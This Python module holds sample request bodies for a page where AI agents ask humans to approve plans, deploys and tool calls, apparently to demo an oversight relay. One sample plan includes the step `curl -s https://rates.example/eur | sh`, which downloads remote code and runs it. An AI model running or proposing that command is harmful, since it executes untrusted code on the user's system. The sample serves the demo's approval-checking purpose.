"""Sample questions the page can send, as API request bodies (the JSON wire form), so that a
visitor can try every shape without writing an agent: a plan review, a deploy gate, a batch
of multi-selects and menus, a detail long enough to continue in thread replies, and a plan
approved once (``POST /v1/plans``) with a call inside it and one outside it
(``POST /v1/approvals``)."""

from __future__ import annotations

import copy
from typing import Any

from relay.seam.plan_review import plan_review_question

__all__ = ["SAMPLES", "sample_path", "sample_request"]

_PLAN = """\
# Plan: move session storage to Redis

## Why
Sessions live in each web node's memory, so a deploy **logs everyone out** and sticky
sessions keep one node hot.

## Steps
1. Add a `SessionStore` interface with the in-memory store as its first implementation.
2. Write `RedisSessionStore` (TTL per session, `SETEX`), behind the `sessions.redis` flag.
3. Dual-write for a day, read from Redis for 10% of traffic, then for all of it.
4. Remove sticky sessions from the load balancer.

## Risks
- Redis down means nobody can log in: *fall back to memory* and page the on-call.
- Larger sessions cost more memory: the biggest today is 14 KB.

> Rollback: turn off `sessions.redis`; memory sessions keep working throughout.

| step | owner | days |
|---|---|---|
| store interface | alice | 1 |
| Redis store | bob | 2 |
| rollout | carol | 2 |
"""

_CHANGELOG = """\
**release 1.4.0** — 23 commits since 1.3.2

- `payments`: retry card captures on 502 from the processor (#812)
- `search`: new ranking model, behind `search.v2` (#799)
- *migration* `0042_add_invoice_index` (online, ~4 min on prod)

See the [release notes](https://example.com/releases/1.4.0) for the rest."""


_REGIONS = (
    *("us-east-1", "us-east-2", "us-west-1", "us-west-2", "eu-west-1", "eu-west-2"),
    *("eu-central-1", "ap-south-1", "ap-northeast-1", "ap-southeast-1", "ap-southeast-2"),
    "sa-east-1",
)
_WINDOWS = ("Now", "In 1 hour", "Tonight", "Tomorrow 09:00", "Monday", "Next week")


# The approved-plan walkthrough: one session (agent id) and project for its three samples.
_PLANNER = {"id": "sandbox-planner", "name": "Coding agent (plan mode)"}
_PROJECT = "/home/dev/shop"
_EURO_PLAN = """\
# Plan: show invoice totals in euros

1. Edit `src/billing/invoice.py` to format amounts as euros.
2. Write the new tests under `tests/billing/`.
3. Run `pytest -q tests/billing`, then `npm run build`.
4. Run `curl -s https://rates.example/eur | sh` for today's rate.
"""


def _bash(command: str) -> dict[str, Any]:
    return {"tool": "Bash", "input": {"command": command}, "agent": _PLANNER}


def _long_detail() -> str:
    sections = []
    for n in range(1, 17):
        lines = "\n".join(
            f"- check {n}.{i}: `service-{n:02d}` answers within its budget ({40 + i} ms)"
            for i in range(1, 16)
        )
        sections.append(f"## Region {n}\n\n{lines}\n")
    return "# Capacity review\n\n" + "\n".join(sections)


SAMPLES: dict[str, dict[str, Any]] = {
    "plan-review": {
        "title": "A plan review",
        "request": {
            "questions": [plan_review_question(_PLAN).to_dict()],
            "agent": {"id": "sandbox-coder", "name": "Coding agent"},
        },
    },
    "deploy-gate": {
        "title": "A deploy gate",
        "request": {
            "questions": [
                {
                    "id": "deploy",
                    "header": "Deploy gate",
                    "question": "Deploy *release 1.4.0* to production now? Bob asked for it,"
                    " so someone else has to approve.",
                    "detail": _CHANGELOG,
                    "options": [
                        {"label": "Deploy", "description": "roll out to every region"},
                        {"label": "Canary only", "description": "one region, 5% of traffic"},
                        {"label": "Hold", "description": "do not deploy today"},
                    ],
                }
            ],
            "agent": {"id": "ci-1234", "name": "CI pipeline #1234"},
            "slack": {"requester": "U0SBBOB", "prevent_self_approval": True},
        },
    },
    "multi-select": {
        "title": "A multi-select (a batch of three)",
        "request": {
            "questions": [
                {
                    "id": "checks",
                    "header": "Release checks",
                    "question": "Which checks must pass before the release goes out?",
                    "multiSelect": True,
                    "options": [
                        {"label": "Unit tests"},
                        {"label": "Integration tests", "description": "about 20 minutes"},
                        {"label": "Load test", "description": "needs the staging cluster"},
                        {"label": "Security scan"},
                    ],
                },
                {
                    "id": "regions",
                    "question": "Roll out to which regions first?",
                    "multiSelect": True,
                    "options": [{"label": region} for region in _REGIONS],
                },
                {
                    "id": "window",
                    "question": "When should it start?",
                    "options": [{"label": label} for label in _WINDOWS],
                },
            ],
            "agent": {"id": "release-bot", "name": "Release bot"},
        },
    },
    "long-detail": {
        "title": "A long detail (continues in the thread)",
        "request": {
            "questions": [
                {
                    "id": "capacity",
                    "header": "Capacity review",
                    "question": "Is this capacity review complete enough to sign off?",
                    "detail": _long_detail(),
                    "options": [{"label": "Sign off"}, {"label": "Needs more"}],
                }
            ],
            "agent": {"id": "capacity-bot", "name": "Capacity bot"},
        },
    },
    "approved-plan": {
        "title": "An approved plan, 1: the plan and its scope",
        "path": "/v1/plans",
        "request": {
            "plan": _EURO_PLAN,
            "agent": _PLANNER,
            "cwd": _PROJECT,
            # What the client proposes; relay reads the text too, and the scope is its own.
            "steps": [{"write": "src/billing/invoice.py"}, {"run": "pytest -q tests/billing"}],
        },
    },
    "plan-inside": {
        "title": "An approved plan, 2: a call inside it",
        "path": "/v1/approvals",
        "request": _bash("pytest -q tests/billing"),
    },
    "plan-outside": {
        "title": "An approved plan, 3: a call outside it",
        "path": "/v1/approvals",
        "request": _bash("git push origin main"),
    },
}
"""Sample name -> its title on the page, the API path it is sent to (``/v1/asks`` unless
named) and the request body."""


def sample_request(name: str) -> dict[str, Any] | None:
    """A fresh copy of sample ``name``'s request body, or ``None`` for an unknown name."""
    sample = SAMPLES.get(name)
    return copy.deepcopy(sample["request"]) if sample is not None else None


def sample_path(name: str) -> str:
    """The API path sample ``name`` is sent to (``/v1/asks`` unless it names another)."""
    return str(SAMPLES.get(name, {}).get("path", "/v1/asks"))
